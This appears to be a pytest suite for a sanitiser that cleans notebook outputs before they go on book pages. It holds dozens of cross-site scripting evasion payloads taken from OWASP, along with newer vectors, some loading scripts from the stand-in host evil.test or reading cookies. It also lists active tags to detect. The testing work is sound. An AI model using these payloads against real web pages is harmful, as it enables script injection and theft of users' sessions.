"""Outputs on pages: what chapters put out passes unchanged, what could run or load something is named and stops the build."""

import base64
import io
import random
import re

import matplotlib.figure
import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image

import sanitise
from paths import EDITION, BookError

NOTEBOOKS = sorted(EDITION.glob("notebooks/*.ipynb"))


def encoded(form, size=(3, 2)):
    data = io.BytesIO()
    Image.new("RGB", size, "red").save(data, form)
    return base64.encodebytes(data.getvalue()).decode()


def tree(html):
    """What a browser makes of a piece of HTML inside a page; html5lib reads as the standard has it."""
    return BeautifulSoup(f'<!DOCTYPE html><body><div id="page">{html}</div><p id="behind"></p></body>', "html5lib")


def meaning(html):
    """Tags, attributes and text in order, blanks aside."""
    return ["".join(node.split()) if isinstance(node, str) else (node.name, node.attrs)
            for node in tree(html).descendants if not isinstance(node, str) or node.strip()]  # fmt: skip


RUNS = set(
    "animate applet audio base bgsound button embed form foreignobject frame frameset iframe image input isindex "
    "keygen layer link marquee math meta noscript object option plaintext script select set svg template textarea "
    "use video xml xmp xss".split()
)


def active(html):
    """What could run, load or lead somewhere it should not: the tests' own list, so that it is none of the sanitiser's."""
    page = tree(html)
    found = [] if page.find(id="behind").parent.name == "body" else ["it reaches out of its place"]
    for element in page.find(id="page").find_all(True):
        if element.name in RUNS or ":" in element.name:
            found.append(element.name)
        if element.name == "style" and re.search(r"url|import|expression|binding|behavio|[@\\<]|/\*", element.text, re.I):
            found.append(element.text)
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            address = re.sub(r"[\x00-\x20]", "", value).lower()  # as a browser reads it
            if name.startswith("on") or name in ("srcset", "background", "srcdoc", "action", "formaction", "ping", "xlink:href"):
                found.append(name)
            if re.match(r"(java|vb|live)script:|(?!data:image/(png|jpeg|webp);base64,)data:", address):
                found.append(value)
            if name in ("src", "data", "code") and not address.startswith("data:image/"):
                found.append(value)
            if name == "href" and not re.match(r"https?://|[\w./#]", address) or address.startswith(("//", "\\\\", "/\\")):
                found.append(value)
            if name == "style" and re.search(r"url|import|expression|binding|behavio|[@\\<]|/\*|position", value, re.I):
                found.append(value)
            if name == "class" and re.search(r"math|process|thebe|output_area", value.replace("mathjax_ignore", "")):
                found.append(value)
            if name == "id" and not value.startswith("T_"):
                found.append(value)
    return found


# --- what chapters put out ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda path: path.stem)
def test_all_outputs_of_the_edition_pass_and_mean_the_same(path):
    before, after = (nbformat.read(path, as_version=4) for _ in range(2))
    assert sanitise.clean(after, path.stem) is after
    for old, new in zip(before.cells, after.cells, strict=True):
        for was, is_now in zip(old.get("outputs", []), new.get("outputs", []), strict=True):
            assert was.keys() == is_now.keys() and was.get("metadata") == is_now.get("metadata")
            for kind, content in was.get("data", {}).items():
                shown = is_now.data[kind]
                assert meaning(shown) == meaning(content) if kind.endswith("text/html") else shown == content
                assert not kind.endswith("text/html") or not active(shown)
    again = sanitise.clean(nbformat.from_dict(after), path.stem)
    assert nbformat.writes(again) == nbformat.writes(after)


FRAME = pd.DataFrame({"name": ["a < b & c", "3 × 3"], "share": [0.5, 0.25]})
TABLES = {
    "as Jupyter shows it": FRAME._repr_html_(),
    "with levels": pd.concat({"x": FRAME, "y": FRAME}).to_html(),
    "the chapters' own": FRAME.to_html(index=False, border=0, classes="results"),
    "with code in it": pd.DataFrame({"experiment": ["<code>vgg19</code>"]}).to_html(escape=False, classes="results"),
    "styled": FRAME.style.format(precision=2).background_gradient().highlight_max(color="rgba(1, 2, 3, 0.5)").set_caption("A caption")
    .bar(subset=["share"]).set_properties(**{"text-align": "right"}).to_html(),
    "a film": '<div class="film" data-label="epoch"><div class="frame key"><img width="3" height="2" alt="a &quot;b&quot;" '
    f'src="data:image/webp;base64,{encoded("WEBP")}"><p>caption</p></div></div>',
    "prose": '<p lang="en">Not <em>this</em>, but <a href="https://keras.io/api/?x=1&amp;y=2#z">that</a>, <a href="vgg.html#fig">or</a> '
    '<a href="../index.html">home</a>; a &lt; b, 5 > 3 < 7, caf&eacute; &#8722;1<br>and<br/>so on.</p>',
    "text that only looks active": "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1) onload=x url(y)</p>",
    "a table without its inner tags": "<table><tr><td>1</td></tr></table>",
    "styles": '<table><td style="color: var(--pst-color-muted); background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)">x</td></table>',
}  # fmt: skip


@pytest.mark.parametrize("html", TABLES.values(), ids=TABLES.keys())
def test_tables_and_prose_pass_and_mean_the_same(html):
    cleaned = sanitise.clean_html(html)
    assert meaning(cleaned) == meaning(html) and not active(cleaned)
    assert sanitise.clean_html(cleaned) == cleaned


@pytest.mark.parametrize("prefix", ["", sanitise.PREFIX])
@pytest.mark.parametrize("form", ["PNG", "JPEG", "WEBP"])
def test_pictures_pass_as_they_are_and_only_under_their_own_type(prefix, form):
    for kind in sanitise.PICTURES:
        output = new_output("display_data", data={prefix + kind: encoded(form), "text/plain": "<Figure>"}, metadata={"x": 1})
        if kind == f"image/{form.lower()}":
            assert sanitise.clean_output(output, "chapter x, code cell 1") == output
        else:
            with pytest.raises(BookError, match=f"no such image .{prefix}{kind}"):
                sanitise.clean_output(output, "chapter x, code cell 1")


def test_text_is_left_to_the_page_which_escapes_it():
    text = "<script>alert(1)</script> javascript:"
    outputs = [new_output("stream", name="stdout", text=text), new_output("execute_result", data={"text/plain": text}),
               new_output("display_data", data={"application/papermill.record/text/plain": text}),
               new_output("error", ename="E", evalue=text, traceback=[text])]  # fmt: skip
    assert [sanitise.clean_output(output, "") for output in outputs] == outputs


def test_lines_as_notebooks_have_them_on_the_disk_are_read_too():
    output = {"output_type": "display_data", "data": {"text/html": ["<p>\n", "one</p>"]}, "metadata": {}}
    assert sanitise.clean_output(output, "")["data"]["text/html"] == "<p>\none</p>"
    assert output["data"]["text/html"] == ["<p>\n", "one</p>"]  # the given output is not changed


# --- what is refused, and in which words --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "kind, content, words",
    [
        ("text/html", "<table></table><script>alert(1)</script>", "<script>"),
        ("text/html", '<img alt="a" src="x" onerror="alert(1)">', "<img onerror='alert(1)'>"),
        ("text/html", '<a href="JavaScript:alert(1)">more</a>', "<a href='JavaScript:alert(1)'>"),
        ("text/html", '<p class="math">x</p>', "<p class='math'>"),
        ("text/html", "<p>one <!-- two --> three</p>", "a comment"),
        ("text/html", "<style>p {color: red}</style>", "style rules 'p {color: red}'"),
        (sanitise.PREFIX + "text/html", "<iframe src='x'></iframe>", "<iframe>"),
        ("text/markdown", "a [link](javascript:alert(1))", "not on the list"),
        ("text/latex", "$x$", "not on the list"),
        (sanitise.PREFIX + "text/markdown", "x", "not on the list"),
        ("application/javascript", "alert(1)", "not on the list"),
        ("application/json", {"a": 1}, "no text"),
        ("application/vnd.jupyter.widget-view+json", "{}", "not on the list"),
        ("application/pdf", "JVBERi0=", "not on the list"),
        ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>", "<svg onload='alert(1)'>"),
        ("image/gif", encoded("GIF"), "not on the list"),
        ("image/png", "PHN2Zz4=", "no such image"),
        ("image/png", "not base64!", "no such image"),
        ("image/png", encoded("PNG")[:40], "no such image"),
        ("TEXT/HTML", "<p>x</p>", "not on the list"),
    ],
)
def test_the_error_names_chapter_cell_and_what_was_found(kind, content, words):
    outputs = [new_output("display_data", data={"text/plain": "harmless"}), new_output("display_data", data={"text/plain": "x", kind: content})]
    cells = [new_markdown_cell("<script>"), new_code_cell("1"), new_code_cell("\nshow(it)\nmore", outputs=outputs)]
    with pytest.raises(BookError) as error:
        sanitise.clean(new_notebook(cells=cells), "small")
    message = str(error.value)
    assert message.startswith("An output of the chapter small, code cell 2 ('show(it)') does not belong on a page: ")
    assert words in message and f"({kind})" in message and "src/sanitise.py" in message and "\n" not in message


# After OWASP's "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org, RSnake and others), in its order. Kept
# from it are those that go into a piece of HTML, not those for scripts, servers or the address of a page.
OWASP = r"""
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>
'';!--"<XSS>=&{()}
\<a onmouseover="alert(1)"\>link\</a\>
\<a onmouseover=alert(1)\>link\</a\>
<IMG \"\"\"><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=javascript:alert('XSS')>
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=javascript:alert(&quot;XSS&quot;)>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC= onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>
<IMG SRC="jav{TAB}ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC="jav&#x0A;ascript:alert('XSS');">
<IMG SRC="jav&#x0D;ascript:alert('XSS');">
<IMG SRC="jav{LF}ascript:alert('XSS');">
<IMG SRC=java{NUL}script:alert("XSS")>
<SCR{NUL}IPT>alert("XSS")</SCR{NUL}IPT>
<IMG SRC=" &#14;  javascript:alert('XSS');">
<SCRIPT/XSS SRC="http://evil.test/xss.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>
<SCRIPT/SRC="http://evil.test/xss.js"></SCRIPT>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<SCRIPT SRC=http://evil.test/xss.js?< B >
<SCRIPT SRC=//evil.test/.j>
<IMG SRC="`<javascript:alert>`('XSS')"
<IMG SRC="javascript:alert('XSS')"
<iframe src=http://evil.test/scriptlet.html <
\";alert('XSS');//</script><script>alert('XSS');</script>
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<BODY BACKGROUND="javascript:alert('XSS')">
<IMG DYNSRC="javascript:alert('XSS')">
<IMG LOWSRC="javascript:alert('XSS')">
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<IMG SRC='vbscript:msgbox("XSS")'>
<IMG SRC="livescript:[code]">
<svg/onload=alert('XSS')>
<BODY ONLOAD=alert('XSS')>
<BODY ONLOAD =alert('XSS')>
<p onactivate=x onbeforecopy=x onbegin=x onfocusin=x onpointerrawupdate=x onanimationstart=x>x</p>
<BGSOUND SRC="javascript:alert('XSS');">
<BR SIZE="&{alert('XSS')}">
<LAYER SRC="http://evil.test/scriptlet.html"></LAYER>
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<LINK REL="stylesheet" HREF="http://evil.test/xss.css">
<STYLE>@import'http://evil.test/xss.css';</STYLE>
<META HTTP-EQUIV="Link" Content="<http://evil.test/xss.css>; REL=stylesheet">
<STYLE>BODY{-moz-binding:url("http://evil.test/xssmoz.xml#xss")}</STYLE>
<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
exp/*<A STYLE='no\xss:noxss("*//*");{LF}xss:ex/*XSS*//*/*/pression(alert("XSS"))'>
<STYLE TYPE="text/javascript">alert('XSS');</STYLE>
<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>
<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>
<STYLE type="text/css">BODY{background:url("<javascript:alert>('XSS')")}</STYLE>
<XSS STYLE="xss:expression(alert('XSS'))">
<XSS STYLE="behavior: url(xss.htc);">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<TABLE BACKGROUND="javascript:alert('XSS')">
<TABLE><TD BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065'\0029">
<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">
<DIV STYLE="width: expression(alert('XSS'));">
<DIV STYLE="width:{LF}expression(alert('XSS'));">
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<BASE HREF="javascript:alert('XSS');//">
<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.test/scriptlet.html"></OBJECT>
<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert('XSS')></OBJECT>
<EMBED SRC="http://evil.test/xss.swf" AllowScriptAccess="always"></EMBED>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>
<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>
<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="<SCRIPT DEFER>alert(1)</SCRIPT>">
<?import namespace="t" implementation="#default#time2">
<SCRIPT SRC="http://evil.test/xss.jpg"></SCRIPT>
<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://evil.test/xss.js></SCRIPT>'"-->
<? echo('<SCR)';echo('IPT>alert("XSS")</SCRIPT>'); ?>
<IMG SRC="http://evil.test/somecommand.php?somevariables=maliciouscode">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">
<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-
<SCRIPT a=">" SRC="httx://evil.test/xss.js"></SCRIPT>
<SCRIPT =">" SRC="httx://evil.test/xss.js"></SCRIPT>
<SCRIPT a=">" '' SRC="httx://evil.test/xss.js"></SCRIPT>
<SCRIPT "a='>'" SRC="httx://evil.test/xss.js"></SCRIPT>
<SCRIPT a=`>` SRC="httx://evil.test/xss.js"></SCRIPT>
<SCRIPT a=">'>" SRC="httx://evil.test/xss.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://evil.test/xss.js"></SCRIPT>
<A HREF="h {LF}tt{TAB}p://6&#9;6.000146.0x7.147/">XSS</A>
<A HREF="//www.evil.test/">XSS</A>
<A HREF="\\www.evil.test/">XSS</A>
<A HREF="http://ha.ckers.org@google">XSS</A>
<A HREF="http://google:ha.ckers.org">XSS</A>
<A HREF="javascript:document.location='http://www.evil.test/'">XSS</A>
<img onload="eval(atob('YWxlcnQoMSk='))">
<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">
<Video> <source onerror = "javascript: alert (XSS)">
<Input value = "XSS" type = text>
<applet code="javascript:confirm(document.cookie);">
<isindex x="javascript:" onmouseover="alert(XSS)">
"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>
"><img src="x:x" onerror="alert(XSS)">
"><iframe src="javascript:alert(XSS)">
<object data="javascript:alert(XSS)">
<isindex type=image src=1 onerror=alert(XSS)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img  src="x:gif" onerror="window['al\u0065rt'](0)"></img>
<iframe/src="data:text/html,<svg onload=alert(1)>">
<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>
<svg><script xlink:href=data&colon;,window.open('https://evil.test/')></script
<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">
<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>
<form><a href="javascript:\u0061lert(1)">X
</script><img/*%00/src="worksinchrome&colon;prompt(1)"/%00*/onerror='eval(src)'>
<style>//*{x:expression(alert(/xss/))}//<style></style>
<img src="/" =_=" title="onerror='prompt(1)'">
<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa  aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe
<script x> alert(1) </script 1=2
<form><button formaction=javascript&colon;alert(1)>CLICKME
<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"
<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>
<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>
"""
# Younger ones: what one parser reads otherwise than the next, names of elements that hide a script's variables, other
# hosts by way of styles, and classes that wake what the book's own pages bring along.
OTHERS = r"""
<math href=javascript:alert(1)>x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+PC9zdmc+#x"></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<style><!--</style><script>alert(1)//--></script>
<style>.dataframe{}</style/x><script>alert(1)</script>
<style>.dataframe{color:red}<img src=x onerror=alert(1)></style>
<style>.dataframe{color:red}</style><style>body{display:none}</style>
<style>.dataframe, body {color: red}</style>
<style>.dataframe{color: red; background: url(//evil.test/x)}</style>
<style>.dataframe{background: u\72l(//evil.test/x)}</style>
<style>.dataframe{background: image-set("//evil.test/x" 1x)}</style>
<style>.dataframe{color: red}/**/@import "//evil.test/x";</style>
<style>@media all {.dataframe{color: red}}</style>
<style media="x" onload=alert(1)>.dataframe{color: red}</style>
<select><style></select><img src=x onerror=alert(1)></style></select>
<table><caption><svg><style></caption></table><img src=x onerror=alert(1)>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="JAVASCRIPT&#x3a;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/png;base64,iVBORw0KGgo=">x</a>
<a href="vbscript:x">x</a>
<a href="blob:https://evil.test/x">x</a>
<a href="filesystem:https://evil.test/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="mailto:x@evil.test">x</a>
<a href="view-source:x">x</a>
<a href="https:evil.test">x</a>
<a href="/\evil.test">x</a>
<a href="/&#9;/evil.test">x</a>
<a href="https://evil.test" ping="https://evil.test">x</a>
<a href="https://evil.test" href="javascript:alert(1)">x</a>
<a href="javascript:alert(1)" href="https://evil.test">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">
<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img src="https://evil.test/x.png">
<img src="//evil.test/x.png">
<img src="picture.png">
<img alt="x" srcset="https://evil.test/x.png 2x">
<picture><source srcset="https://evil.test/x.png"></picture>
<video src="https://evil.test/x.mp4" autoplay></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<form id=x action="https://evil.test"><p>x</p></form><button form=x>y</button>
<div contenteditable onblur=alert(1) tabindex=0>x</div>
<p style="background: url(https://evil.test/x)">x</p>
<p style="background: url('https://evil.test/x')">x</p>
<p style="background: URL(&quot;//evil.test/x&quot;)">x</p>
<p style="background: image-set('//evil.test/x' 1x)">x</p>
<p style="background: \75rl(//evil.test/x)">x</p>
<p style="background: u/**/rl(//evil.test/x)">x</p>
<p style="position: fixed; top: 0; width: 100%; height: 100%">x</p>
<p style="color: red; behavior: url(x.htc)">x</p>
<p style="-moz-binding: url(x)">x</p>
<p style="color: expression(alert(1))">x</p>
<p style="color: red} body {color: red">x</p>
<p id="MathJax">x</p>
<p id="T_x y">x</p>
<a name="config" href="https://evil.test">x</a>
<p class="math">\(\href{javascript:alert(1)}{x}\)</p>
<p class="dataframe mathjax_process">\(\href{javascript:alert(1)}{x}\)</p>
<p data-bs-toggle="tooltip" data-bs-html="true" title="<img src=x onerror=alert(1)>">x</p>
<p>x</p></div></div></article><iframe src="//evil.test"></iframe>
<p is="x-y">x</p>
<x-y>x</x-y>
<marquee onstart=alert(1)>x</marquee>
<body onpageshow=alert(1)>
<html onclick=alert(1)>
<p ONCLICK=alert(1)>x</p>
<p/onclick=alert(1)>x</p>
<p{FF}onclick=alert(1)>x</p>
<p "onclick=alert(1)>x</p>
<p title="a"onclick="alert(1)">x</p>
<p title='x" onclick="alert(1)' onclick='alert(1)'>x</p>
<img alt="`><script>alert(1)</script>"src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<!--x--!><script>alert(1)</script>-->
<!DOCTYPE x [<!ENTITY y "z">]><p>x</p>
<?xml-stylesheet href="javascript:alert(1)"?>
</p x=><script>alert(1)</script>
<script
<p title="x
"""
SIGNS = {"{TAB}": "\t", "{LF}": "\n", "{NUL}": "\0", "{FF}": "\f"}


def vectors(text):
    return [re.sub(r"\{[A-Z]+\}", lambda sign: SIGNS[sign[0]], line) for line in text.strip().splitlines()]


@pytest.mark.parametrize("vector", vectors(OWASP) + vectors(OTHERS))
def test_what_evades_filters_is_refused_and_nh3_leaves_nothing_of_it(vector):
    without_rules = re.sub(r"<style.*?</style>", "", sanitise.rewritten(vector), flags=re.S)  # rules are judged apart
    assert not active(without_rules)
    for html in (vector, f"<table><tbody><tr><td>{vector}</td></tr></tbody></table>", f"<div><style scoped>{vector}"):
        with pytest.raises(sanitise.Unwanted) as found:
            sanitise.clean_html(html)
        assert 0 < len(str(found.value)) < 300


@pytest.mark.parametrize("html", [
    '<A HREF="http://66.102.7.147/">XSS</A>', '<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>', "¼script¾alert(¢XSS¢)¼/script¾",
    "Set.constructor`alert\\x28document.domain\\x29", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3e \\u003cscript\\u003e", "&ltscript&gtalert(1)",
    "&#60;script&#62; &#0000060script&#x00003E;", "< script>alert(1)", '<A HREF="http://www.google.com./">XSS</A>',
])  # fmt: skip
def test_what_only_looks_like_it_is_text_or_a_plain_link_and_stays_so(html):
    try:
        cleaned = sanitise.clean_html(html)
    except sanitise.Unwanted:
        return  # strange enough to be refused
    assert not active(cleaned) and meaning(cleaned) == meaning(html)


PIECES = (
    "<table> <tr> <td> </td> </table> <p> </p> <div class=film> </div> <style> </style> <style>.dataframe{color:red}</style> <svg> "
    "</svg> <math> <mtext> <mglyph> <select> <option> <noscript> </noscript> <template> <textarea> </textarea> <title> </title> "
    "<!-- --> --!> <![CDATA[ ]]> <img/src=x/onerror=alert(1)> <script>alert(1)</script> <a/href=javascript:alert(1)> </a> \" ' ` > < = / x "
    "&lt; &quot; &#0; <p/title=\" <p/title=' <xmp> </xmp> <plaintext> <iframe> </iframe> <form> </form> <b> </b> <br> <pre> onclick=x"
).split(" ")


def test_random_heaps_of_tags_never_leave_anything_active():
    draw, passed = random.Random(0), 0
    for _ in range(5000):
        html = "".join(draw.choices(PIECES, k=draw.randrange(2, 9)))
        try:
            cleaned = sanitise.clean_html(html)
        except sanitise.Unwanted:
            continue
        passed += 1
        assert not active(cleaned), html
        again = tree(cleaned).find(id="page").decode_contents()  # written and read once more, as some tools do
        assert not active(again), html
    assert passed > 100  # or the test would show nothing


@pytest.mark.parametrize("html", ["<" * 20_000, "<p " * 5_000, "<div>" * 400, "<style>" + "{" * 20_000, "<p style='" + " " * 20_000 + "'>", "&" * 20_000])
def test_hostile_lengths_end_soon(html):
    try:
        sanitise.clean_html(html)
    except sanitise.Unwanted:
        pass


# --- SVG ----------------------------------------------------------------------------------------------------------


def drawn(fonts):
    figure = matplotlib.figure.Figure()
    with matplotlib.rc_context({"svg.fonttype": fonts}):
        axes = figure.subplots(2, 3).ravel()
        axes[0].plot([1, 2, 3], "--o", label="a < b & c")
        axes[0].legend()
        axes[1].imshow([[1, 2], [3, 4]])
        axes[2].bar([1, 2], [3, 4], hatch="x")
        axes[3].scatter([1, 2], [3, 4], c=[1, 2], alpha=0.5)
        axes[4].contourf([[1, 2], [3, 4]])
        axes[5].annotate("a $x^2$ − é", (0.5, 0.5), (0.1, 0.1), arrowprops={"arrowstyle": "->"})
        text = io.StringIO()
        figure.savefig(text, format="svg", transparent=True)
    return text.getvalue()


@pytest.mark.parametrize("fonts", ["path", "none"])
def test_what_matplotlib_draws_passes(fonts):
    figure = drawn(fonts)
    cleaned = sanitise.clean_svg(figure)
    assert sanitise.clean_svg(cleaned) == cleaned
    assert "metadata" not in cleaned and "<!" not in cleaned and "<?" not in cleaned and cleaned.startswith("<svg ")
    for tag in ("<path", "<use", "<image", "<text", "<clipPath", 'd="', "font"):
        assert cleaned.count(tag) == re.sub(r"<!--.*?-->|<metadata>.*?</metadata>", "", figure, flags=re.S).count(tag)


@pytest.mark.parametrize("inside", [
    "<script>alert(1)</script>", "<g onclick='alert(1)'/>", "<a href='javascript:alert(1)'><text>x</text></a>", "<a xlink:href='https://evil.test'/>",
    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>", "<p xmlns='http://www.w3.org/1999/xhtml'>x</p>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "<use href='https://evil.test/x.svg#a'/>", "<use xlink:href='data:image/svg+xml,x#a'/>",
    "<image href='https://evil.test/x.png'/>", "<image xlink:href='data:image/svg+xml;base64,PHN2Zz4='/>", "<image href='data:image/png;base64,PHN2Zz4='/>",
    "<animate attributeName='href' to='javascript:alert(1)'/>", "<set attributeName='onclick' to='alert(1)'/>", "<style>@import '//evil.test/x';</style>",
    "<style>* {fill: url(//evil.test/x)}</style>", "<style>body {color: red}</style>", "<style><g/></style>", "<title><style>x</style></title>",
    "<rect fill='url(https://evil.test/x#y)'/>", "<rect style='fill: url(//evil.test/x)'/>", "<rect style='cursor: url(x)'/>", "<handler>alert(1)</handler>",
    "<filter id='x'><feImage href='//evil.test/x'/></filter>", "<iframe/>", "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "<rect xml:base='https://evil.test'/>", "<rect href='javascript:alert(1)'/>", "<tbreak/>", "<text", "&x;", "<?xml-stylesheet href='x'?>",
])  # fmt: skip
def test_svg_that_could_run_or_load_something_is_refused(inside):
    with pytest.raises(sanitise.Unwanted):
        sanitise.clean_svg(f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{inside}</svg>")


@pytest.mark.parametrize("text", [
    "<!DOCTYPE svg [<!ENTITY x 'y'>]><svg xmlns='http://www.w3.org/2000/svg'/>", "<svg/>", "<html/>", "", "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    "<?xml-stylesheet href='javascript:alert(1)'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "<!DOCTYPE svg SYSTEM '>' [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
])  # fmt: skip
def test_documents_that_are_no_plain_figure_are_refused(text):
